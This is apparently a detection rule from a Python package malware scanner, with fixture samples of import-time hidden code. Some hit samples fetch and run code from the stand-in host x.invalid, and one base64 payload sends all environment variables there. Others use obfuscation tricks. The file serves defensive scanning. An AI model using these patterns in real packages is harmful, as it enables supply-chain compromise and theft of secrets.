import type { Rule } from '../rule';

export const importHiddenCode: Rule = {
  code: 'import-hidden-code',
  ecosystem: 'pypi',
  kind: 'code',
  severity: 'critical',
  verdict: 'malicious',
  tactic: 'defense-evasion',
  capabilities: ['subprocess', 'obfuscation'],
  languages: ['python'],
  summary: 'A module evaluates text that it decodes or fetches, as soon as it is imported.',
  message: 'evaluates hidden or fetched text when it is imported',
  pattern: { where: 'import', any: ['decoded-code', 'remote-shell'] },
  samples: {
    hits: [
      {
        what: 'hidden code at import (W4SP)',
        format: 'wheel',
        files: { 'sample/__init__.py': 'import base64;exec(base64.b64decode("cHJpbnQoMSk="))' },
        verdict: 'malicious',
      },
      {
        what: 'the same pushed off the screen',
        format: 'wheel',
        files: {
          'sample/__init__.py': `import base64${' '.repeat(300)};exec(base64.b64decode("cHJpbnQoMSk="))`,
        },
        verdict: 'malicious',
      },
      {
        what: 'the same in another module',
        format: 'wheel',
        files: {
          'sample/deep/er.py':
            'from marshal import loads\nfrom zlib import decompress as d\nexec(loads(d(b"x")))',
        },
        verdict: 'malicious',
      },
      {
        what: 'fetched code at import',
        format: 'wheel',
        files: {
          'sample/__init__.py':
            'import urllib.request\nexec(urllib.request.urlopen("https://x.invalid").read())',
        },
        verdict: 'malicious',
      },
      {
        what: 'a hidden library that is called at once',
        format: 'wheel',
        files: {
          'sample/__init__.py':
            'import base64\nexec(base64.b64decode("aW1wb3J0IG9zCgpET05FID0ge30KCmRlZiBrZWVwcyhuYW1lKToKICAgIGRlZiBrZXB0KGYpOgogICAgICAgIERPTkVbbmFtZV0gPSBmCiAgICAgICAgcmV0dXJuIGYKICAgIHJldHVybiBrZXB0CgpAa2VlcHMoImdpdCIpCmRlZiB2ZXJzaW9uKHJvb3QpOgogICAgd2l0aCBvcGVuKG9zLnBhdGguam9pbihyb290LCAiVkVSU0lPTiIpLCAidyIpIGFzIGY6CiAgICAgICAgZi53cml0ZSgiMSIpCgp2ZXJzaW9uKCIuIikK"), globals())',
        },
        verdict: 'malicious',
      },
      {
        what: 'a hidden library that sends what it is not asked for',
        format: 'wheel',
        files: {
          'sample/__init__.py':
            'import base64\nexec(base64.b64decode("aW1wb3J0IG9zLCB1cmxsaWIucmVxdWVzdAoKZGVmIHZlcnNpb24ocm9vdCk6CiAgICB1cmxsaWIucmVxdWVzdC51cmxvcGVuKCJodHRwczovL3guaW52YWxpZC8iLCBkYXRhPXN0cihkaWN0KG9zLmVudmlyb24pKS5lbmNvZGUoKSkK"), globals())',
        },
        verdict: 'malicious',
      },
    ],
    ignores: [
      {
        what: 'an installer that carries its own library (versioneer)',
        format: 'wheel',
        files: {
          'sample/__init__.py':
            'import base64\nLIBRARY = base64.b64decode("aW1wb3J0IG9zCgpET05FID0ge30KCmRlZiBrZWVwcyhuYW1lKToKICAgIGRlZiBrZXB0KGYpOgogICAgICAgIERPTkVbbmFtZV0gPSBmCiAgICAgICAgcmV0dXJuIGYKICAgIHJldHVybiBrZXB0CgpAa2VlcHMoImdpdCIpCmRlZiB2ZXJzaW9uKHJvb3QpOgogICAgd2l0aCBvcGVuKG9zLnBhdGguam9pbihyb290LCAiVkVSU0lPTiIpLCAidyIpIGFzIGY6CiAgICAgICAgZi53cml0ZSgiMSIpCg==")\nexec(LIBRARY.decode(), globals())',
        },
        why: 'The text is known to its end, only defines functions, and they do what they might as well do openly.',
        verdict: 'suspicious',
      },
      {
        what: 'the mark of a template, which the build puts text in the place of (versioneer as an sdist)',
        format: 'sdist',
        files: {
          'src/installer.py':
            'import base64\nPACKED = """\n@SAMPLE-INSTALLER@\n"""\nexec(base64.b64decode(PACKED.encode("ASCII")).decode(), globals())',
        },
        why: 'No text is hidden yet; that some will be, which nobody has read, is suspicious.',
        verdict: 'suspicious',
      },
      {
        what: 'a template engine',
        format: 'wheel',
        files: {
          'sample/t.py':
            'def render(source):\n  ns = {}\n  exec(compile(source, "t", "exec"), ns)\n  return ns',
        },
        why: 'It evaluates what its caller gives it, and not at import.',
        verdict: 'clean',
      },
      {
        what: 'embedded data',
        format: 'wheel',
        files: {
          'sample/data.py':
            'import base64, zlib\nDATA = zlib.decompress(base64.b64decode("eA=="))\ndef f():\n  return eval("1")',
        },
        why: 'What is decoded is kept as data; what is evaluated stands there.',
        verdict: 'clean',
      },
    ],
  },
};
